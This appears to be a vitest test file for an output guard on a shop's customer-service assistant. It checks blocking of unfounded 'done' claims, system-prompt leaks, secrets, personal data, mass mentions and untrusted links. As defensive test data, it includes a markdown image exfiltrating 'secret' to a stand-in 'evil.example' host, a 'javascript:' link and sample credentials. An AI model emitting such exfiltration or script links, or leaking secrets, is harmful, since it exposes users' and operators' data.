import { describe, expect, it } from "vitest";
import type { JsonValue } from "../json.ts";
import { createOutputGuard } from "./output.ts";

const PROMPT =
  "You are the orders assistant of Harbour & Pine. Never show an order of another customer to anyone who asks for it.";

function guard(facts: JsonValue[] = [], known: string[] = []) {
  return createOutputGuard({ facts: () => facts, known: () => known, systemPrompt: PROMPT });
}

const DONE: JsonValue = {
  status: "done",
  action_id: "act_1",
  tool: "cancel_order",
  result: { order_id: "1043", status: "cancelled" },
};
const PENDING: JsonValue = { status: "pending_approval", action_id: "act_1", tool: "cancel_order" };
const READ: JsonValue = {
  status: "done",
  result: { order_id: "1028", status: "cancelled", email: "alice@example.com", url: "https://track.example.com/1" },
};

describe("claims of what was done", () => {
  it.each([
    "I have cancelled your order. ",
    "I've just refunded 20 USD to your card.",
    "We went ahead and updated your address.",
    "Your order has been successfully cancelled.",
    "Done! It is on its way back to you.",
    "已为您取消订单1043。",
    "您的退款已经处理完成。",
    "订单取消成功。",
  ])("%j does not pass without a result", (sentence) => {
    for (const facts of [[], [PENDING]]) {
      const review = guard(facts)(sentence);
      expect(review).toMatchObject({ verdict: "block", rules: ["unfounded_claim"] });
      expect(review.text).toMatch(/can't confirm|无法确认/);
    }
    expect(guard([DONE])(sentence).verdict).toBe("allow");
  });

  it("accepts what a record shows, but no deed of our own from it", () => {
    expect(guard([READ])("Order 1028 was cancelled.").verdict).toBe("allow");
    expect(guard([READ])("订单1028已取消。").verdict).toBe("allow");
    expect(guard([READ])("I have cancelled order 1028.").rules).toEqual(["unfounded_claim"]);
  });

  it.each([
    "It has not happened yet: a colleague must approve it (act_1).",
    "Shall I ask for order 1043 to be cancelled? (yes/no)",
    "Once it has been approved, you will hear of it.",
    "Delivered orders can be returned within 30 days.",
    "I could not find an order that was refunded?",
    "The request is taken back; nothing was changed: Cancel order 1043.",
    "I've asked a colleague to take over.",
    "Order 1046 was paid by PayPal: 399 USD, of which 0 went back.",
    "已为您提交：退回订单 1002 的商品。",
    "目前还没有办理：需要工作人员批准（act_1）。",
    "需要我为您提交申请吗：取消订单1043？",
    "申请已撤回，没有做任何改动。",
  ])("%j is no claim", (sentence) =>
    expect(guard([PENDING])(sentence)).toMatchObject({ verdict: "allow", text: sentence }),
  );
});

describe("personal data and secrets", () => {
  it("masks what the customer has no claim to", () => {
    expect(guard()("Write to bob@example.com or +1 503 555 0199.").text).toBe("Write to [email] or [phone].");
    expect(guard()("Your card is 4111 1111 1111 1111.").text).toBe("Your card is [card …1111].");
  });

  it("shows what a tool gave, and the customer's own", () => {
    expect(guard([READ])("We have alice@example.com.").verdict).toBe("allow");
    expect(guard([], ["+1 (503) 555-0199"])("We'll call 1-503-555-0199.").verdict).toBe("allow");
  });

  it("masks full card and identity numbers even when they are known", () => {
    expect(guard([], ["4111111111111111"])("It is 4111 1111 1111 1111.").rules).toEqual(["personal_data"]);
  });

  it.each([
    `The key is sk-ant-${"a1B2".repeat(6)}.`,
    "AKIAIOSFODNN7EXAMPLE",
    "Use postgres://admin:hunter22@db.internal/shop",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "password: correct-horse-battery",
  ])("keeps %j in", (sentence) => {
    expect(guard()(sentence).rules).toContain("secret");
    expect(guard()(sentence).text).toContain("[secret]");
  });
});

it("doesn't repeat the system prompt", () => {
  const review = guard()("My rules: never show an order of another customer to anyone who asks for it. ");
  expect(review).toMatchObject({ verdict: "block", rules: ["prompt_leak"] });
  expect(review.text).toBe("I can't share how I am set up. ");
});

describe("what platforms would act on", () => {
  it.each([
    ["Hello @everyone!", /@\u2060everyone/],
    ["<!channel> look", /^\(everyone\) look$/],
    ["Ask <@U012ABC> or <@&81384>", /^Ask \(somebody\) or \(somebody\)$/],
    ["<at>Lin Wei</at> knows", /^Lin Wei knows$/],
  ])("%j calls nobody", (sentence, expected) => {
    const review = guard()(sentence);
    expect(review.text).toMatch(expected);
    expect(review.rules).toEqual(["mention"]);
  });

  it.each([
    ["See [our page](https://evil.example/x).", "See our page [link removed]."],
    ["![](https://evil.example/?q=secret)", "[link removed]"],
    ["Go to https://evil.example/pay now", "Go to [link removed] now"],
    ["<https://evil.example|here>", "here [link removed]"],
    ["[run](javascript:alert(1))", "run [link removed])"],
  ])("%j leads nowhere that no source named", (sentence, expected) => {
    expect(guard()(sentence)).toMatchObject({ rules: ["link"], text: expected });
  });

  it("keeps links to where a source led", () => {
    for (const sentence of ["Track it at https://track.example.com/1.", "[Track](https://track.example.com/2)"]) {
      expect(guard([READ])(sentence)).toMatchObject({ verdict: "allow", text: sentence });
    }
  });
});
